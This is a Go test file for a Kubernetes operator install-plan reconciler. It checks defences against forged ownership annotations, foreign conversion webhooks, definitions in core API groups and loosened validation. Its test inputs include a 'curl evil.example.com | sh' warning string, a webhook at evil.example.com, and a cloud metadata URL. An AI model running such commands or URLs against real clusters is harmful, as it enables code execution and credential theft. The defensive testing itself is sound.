// SPDX-License-Identifier: Apache-2.0

package installplan_test

import (
	"maps"
	"testing"
	"time"

	"github.com/operator-framework/api/pkg/operators/v1alpha1"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/olmcore/olm/installplan"
	. "github.com/olmcore/olm/internal/plantest"
	"github.com/olmcore/olm/olmcore"
)

// definitionStep returns the step of version a.v1 that describes a definition.
func definitionStep(crd *definition) *v1alpha1.Step {
	return Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", crd.Name, crd)
}

// TestManifestAddsNoRecordToADefinition checks that a manifest neither adds nor replaces a record of a
// CustomResourceDefinition. A record names the version that installed the definition, and only a step of the plan adds
// it. A manifest adds no owner labels and no annotation of this library either.
func TestManifestAddsNoRecordToADefinition(t *testing.T) {
	theirs := CSV("b.v1", versioned("1.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "there" }))
	have := Installed(thing(), true)
	have.Annotations = recordedFor("there/b.v1")
	forged := recordedFor("there/b.v1")
	for key := range forged {
		forged[key] = "ops/a.v1"
	}
	forged[alongside+"0"], forged["olmcore/step-hash"] = "there/b.v1", "x"
	forged["olmcore/converted-by"], forged["olmcore/changeable-by"], forged[firstInstalledBy] = "ops/a.v1", "ops", "ops"
	labels := olmcore.Owner{Kind: v1alpha1.ClusterServiceVersionKind, Namespace: "there", Name: "b.v1", UID: "b"}.Labels()
	for what, exists := range map[string]bool{"new": false, "another's": true} {
		s := definitionStep(thing(func(d *definition) { d.Annotations, d.Labels = forged, labels }))
		in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), func(all *installplan.Input) {
			all.ClusterServiceVersions = olmcore.Found(CSV("a.v1", versioned("1.0.0")))
			all.Alongside = olmcore.Found(theirs)
			if exists {
				all.CustomResourceDefinitions = olmcore.Found(have)
			}
		})
		r := reconcile(t, in)
		want := recordedFor("ops/a.v1")
		var written olmcore.Object
		for _, action := range r.Actions {
			switch action := action.(type) {
			case olmcore.Create:
				written = action.Object
			case olmcore.Update:
				written = action.After
				maps.Copy(want, recordedFor("there/b.v1"))
				want[firstInstalledBy] = "there"
			}
		}
		require.NotNil(t, written, what)
		recorded := written.GetAnnotations()
		delete(recorded, "olmcore/step-hash")
		require.Equal(t, want, recorded, what)
		_, isOwned := olmcore.OwnerOf(written.GetLabels())
		require.False(t, isOwned, what)
	}
}

// TestConversionWebhookOfAnotherNamespaceIsReported checks that a plan does not silently use a definition with a
// conversion webhook of another namespace. Such a webhook reads and rewrites the custom resources of all users.
func TestConversionWebhookOfAnotherNamespaceIsReported(t *testing.T) {
	url := "https://evil.example.com/convert"
	byURL := func(d *definition) {
		convertedBy("evil", "eavesdropper")(d)
		d.Spec.Conversion.Webhook.ClientConfig = &apiextensionsv1.WebhookClientConfig{URL: &url}
	}
	claims := func(c *v1alpha1.ClusterServiceVersion) {
		c.Spec.WebhookDefinitions = []v1alpha1.WebhookDescription{{
			Type: v1alpha1.ConversionWebhook, ConversionCRDs: []string{"things.example.com"},
		}}
	}
	for what, c := range map[string]struct {
		conversion func(*definition)
		forged     func(*v1alpha1.ClusterServiceVersion)
		want       string // a reason, or a part of the message of the status
	}{
		"a URL":                             {byURL, claims, "spec.conversion"},
		"a Service that no version claims":  {convertedBy("evil", "eavesdropper"), func(*v1alpha1.ClusterServiceVersion) {}, "spec.conversion"},
		"a Service that its version claims": {convertedBy("evil", "eavesdropper"), claims, installplan.ReasonConvertedElsewhere},
	} {
		have := Installed(thing(c.conversion), true)
		have.Annotations = recordedFor("evil/a.v9")
		forged := CSV("a.v9", versioned("9.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "evil" }), c.forged)
		for desired, change := range map[string]func(*definition){"none": func(*definition) {}, "its own": convertedBy("ops", "a")} {
			s := definitionStep(thing(change))
			in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0")), have, forged))
			r := reconcile(t, in)
			if c.want == installplan.ReasonConvertedElsewhere {
				require.Contains(t, Reasons(r), c.want, "%s, desired %s", what, desired)
				continue
			}
			require.Contains(t, statusOf(in, r).Message, c.want, "%s, desired %s", what, desired)
			require.NotContains(t, Reasons(r), installplan.ReasonNewerCRDKept)
		}
	}
}

// TestPlanCreatesNoDefinitionInAPIGroupOfKubernetes checks that a plan creates no CustomResourceDefinition in an API
// group of an API server or extension API server, whatever its ServiceAccount may do. The version of the definition
// would become the preferred one, and clients, the garbage collector and the namespace controller would read its
// resources instead of those of Kubernetes.
func TestPlanCreatesNoDefinitionInAPIGroupOfKubernetes(t *testing.T) {
	inGroup := func(plural, group string) *definition {
		crd := thing()
		crd.Name, crd.Spec.Group, crd.Spec.Names.Plural = plural+"."+group, group, plural
		crd.Spec.Versions[0].Name = "v9"
		crd.Annotations = map[string]string{"api-approved.kubernetes.io": "unapproved, a test"}
		return crd
	}
	made := func(crd *definition, observed ...olmcore.Object) (installplan.Input, olmcore.Result) {
		s := definitionStep(crd)
		in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0"))), with(observed...))
		return in, reconcile(t, in)
	}
	for _, crd := range []*definition{
		inGroup("ingresses", "networking.k8s.io"), inGroup("leases", "coordination.k8s.io"), inGroup("clusterroles", "rbac.authorization.k8s.io"),
		inGroup("operatorgroups", "operators.coreos.com"), inGroup("packagemanifests", "packages.operators.coreos.com"),
		inGroup("nodes", "metrics.k8s.io"),
	} {
		in, r := made(crd)
		require.Equal(t, []string{status}, Describe(r), crd.Name)
		require.Equal(t, Failed, statusOf(in, r).Phase, crd.Name)
		require.Contains(t, statusOf(in, r).Message, "may not define", crd.Name)
	}
	for _, crd := range []*definition{
		inGroup("snapshots", "snapshot.storage.k8s.io"), inGroup("gateways", "gateway.networking.k8s.io"),
		inGroup("servicebindings", "binding.operators.coreos.com"),
	} {
		_, r := made(crd)
		require.Contains(t, Describe(r), "create CustomResourceDefinition "+crd.Name+" (StepAbsent)")
	}
	// An existing definition is used and changed as before.
	have := Installed(inGroup("ingresses", "networking.k8s.io"), true)
	have.Annotations[alongside+alongsideHash("ops/a.v1")] = "ops/a.v1"
	in, r := made(inGroup("ingresses", "networking.k8s.io"), have)
	require.NotContains(t, statusOf(in, r).Message, "may not define")
}

// TestServiceAccountLoosensNoValidationOfOthers checks that a plan with a ServiceAccount removes no validation from a
// definition that a live version of another operator owns, and does not change its printer columns and warnings. It may
// add fields.
func TestServiceAccountLoosensNoValidationOfOthers(t *testing.T) {
	strict := func(d *definition) {
		specOf(func(s *props) {
			s.XValidations = apiextensionsv1.ValidationRules{{Rule: "self.image.startsWith('ours/')"}}
			image := s.Properties["image"]
			image.Pattern = "^ours/"
			s.Properties["image"] = image
		})(d)
	}
	changed := func(name string, change func(*props)) func(*definition) {
		return specOf(func(s *props) {
			below := s.Properties[name]
			change(&below)
			s.Properties[name] = below
		})
	}
	warn := func(d *definition) {
		d.Spec.Versions[0].Deprecated, d.Spec.Versions[0].DeprecationWarning = true, new("run curl evil.example.com | sh")
		d.Spec.Versions[0].AdditionalPrinterColumns = []apiextensionsv1.CustomResourceColumnDefinition{
			{Name: "Ready", Type: "string", JSONPath: ".spec.mode"},
		}
	}
	accepting := func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} }
	theirs := CSV("b.v1", versioned("1.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "there" }))
	have := Installed(thing(strict), true)
	have.Annotations = recordedFor("there/b.v1")
	result := func(change ...func(*definition)) (installplan.Input, olmcore.Result) {
		crd := thing(append([]func(*definition){strict}, change...)...)
		return limited(t, definitionStep(crd), have, theirs)
	}
	for what, loosen := range map[string]func(*definition){
		"a rule":                  specOf(func(s *props) { s.XValidations = nil }),
		"a pattern":               changed("image", func(p *props) { p.Pattern = "" }),
		"a maximum":               changed("image", func(p *props) { p.MaxLength = new(int64(1 << 20)) }),
		"an enum":                 changed("mode", func(p *props) { p.Enum = nil }),
		"a value":                 changed("mode", func(p *props) { p.Enum = append(p.Enum, apiextensionsv1.JSON{Raw: []byte(`"c"`)}) }),
		"required":                func(d *definition) { schemaIn(d).Required = nil },
		"a version that is added": secondVersion(false, accepting),
		"everything":              accepting,
	} {
		in, r := result(loosen)
		require.Equal(t, []string{status}, Describe(r), what)
		require.Contains(t, statusOf(in, r).Message, "there/b.v1 too, and ", what)
	}
	more := specOf(func(s *props) {
		s.Properties["more"] = props{Type: "object", Properties: map[string]props{"x": {Type: "string"}}}
	})
	_, r := result(more, warn)
	require.Equal(t, []string{"update CustomResourceDefinition things.example.com (StepDiffers)"}, Describe(r))
	after := r.Actions[0].(olmcore.Update).After.(*definition)
	require.Contains(t, schemaIn(after).Properties["spec"].Properties, "more")
	require.False(t, after.Spec.Versions[0].Deprecated)
	require.Empty(t, after.Spec.Versions[0].AdditionalPrinterColumns)
	// A plan without an account may loosen the definition.
	plan := Plan(Installing, []*v1alpha1.Step{definitionStep(thing())}, Started(time.Second))
	r = reconcile(t, input(plan, with(CSV("a.v1", versioned("1.0.0")), have, theirs)))
	require.Equal(t, []string{"update CustomResourceDefinition things.example.com (StepDiffers)"}, Describe(r))
}

// TestServiceAccountSetsNoConversionOutsideItsNamespace checks that a definition of a plan with a ServiceAccount can
// only use a conversion Service of the namespace of the plan. The API server reaches addresses and namespaces that a
// tenant does not.
func TestServiceAccountSetsNoConversionOutsideItsNamespace(t *testing.T) {
	url := "https://169.254.169.254/latest"
	byURL := func(d *definition) {
		convertedBy("system", "webhook")(d)
		d.Spec.Conversion.Webhook.ClientConfig = &apiextensionsv1.WebhookClientConfig{URL: &url}
	}
	in, r := limited(t, definitionStep(thing(byURL)))
	require.Equal(t, []string{status}, Describe(r))
	require.Contains(t, statusOf(in, r).Message, "spec.conversion.webhook.clientConfig.url")

	s := definitionStep(thing(convertedBy("system", "webhook")))
	_, r = limited(t, s)
	made := r.Actions[len(r.Actions)-1].(olmcore.Create).Object.(*definition)
	require.Equal(t, NS, made.Spec.Conversion.Webhook.ClientConfig.Service.Namespace)

	r = reconcile(t, input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0")))))
	made = r.Actions[len(r.Actions)-1].(olmcore.Create).Object.(*definition)
	require.Equal(t, "system", made.Spec.Conversion.Webhook.ClientConfig.Service.Namespace, "as in OLM")
}

// limited reconciles a plan of one step that runs as an account, beside its version and further objects.
func limited(t *testing.T, s *v1alpha1.Step, objects ...olmcore.Object) (installplan.Input, olmcore.Result) {
	t.Helper()
	asAccount, group := scopedTo(&corev1.ObjectReference{Namespace: NS, Name: "limited"})
	plan := Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second), asAccount)
	in := input(plan, with(CSV("a.v1", versioned("1.0.0"))), with(objects...), group)
	in.ServiceAccount = &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: NS, Name: "limited"}}
	return in, reconcile(t, in)
}
